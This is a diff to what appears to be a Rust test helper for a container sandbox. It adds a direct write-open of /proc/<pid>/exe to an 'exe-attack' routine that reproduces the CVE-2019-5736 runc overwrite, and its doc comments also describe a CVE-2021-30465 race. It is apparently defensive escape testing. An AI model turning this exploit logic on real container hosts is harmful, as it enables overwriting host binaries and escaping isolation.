@@ -10,7 +10,7 @@
 //! - `write PATH TEXT`: writes TEXT to PATH; prints `ok` or `errno=N`.
 //! - `open PATH`: opens PATH read-only; prints `ok` or `errno=N`.
 //! - `exe-attack STOP SECS`: CVE-2019-5736 from inside: keeps opening `/proc/<pid>/exe` of
-//!   every other process (O_PATH) and reopening each handle O_WRONLY through /proc/self/fd,
+//!   every other process (O_WRONLY, and O_PATH kept and reopened O_WRONLY via /proc/self/fd),
 //!   until the file STOP exists or SECS pass; a successful open writes `HULL-PWNED` at the
 //!   start of that binary and prints `pwned PATH`, else `safe handles=N {errors}`.
 //! - `swap TARGET STOP PATH...`: CVE-2021-30465's racer: makes each PATH a directory with a
@@ -209,7 +209,17 @@ fn exe_attack(stop: &str, secs: &str) -> Result<String, String> {
             let key = std::fs::metadata(format!("/proc/self/fd/{fd}"))
                 .map(|m| (m.dev(), m.ino()))
                 .unwrap_or_default();
-            if own.contains(&key) || !seen.insert(key) {
+            if own.contains(&key) {
+                // SAFETY: `fd` is ours and closed once.
+                unsafe { libc::close(fd) };
+                continue;
+            }
+            // The direct way too: /proc/<pid>/exe itself opened for writing.
+            match try_overwrite(&format!("/proc/{name}/exe")) {
+                Ok(()) => return Ok(format!("pwned /proc/{name}/exe")),
+                Err(e) => *errs.entry(format!("direct errno={e}")).or_default() += 1,
+            }
+            if !seen.insert(key) {
                 // SAFETY: `fd` is ours and closed once.
                 unsafe { libc::close(fd) };
                 continue;
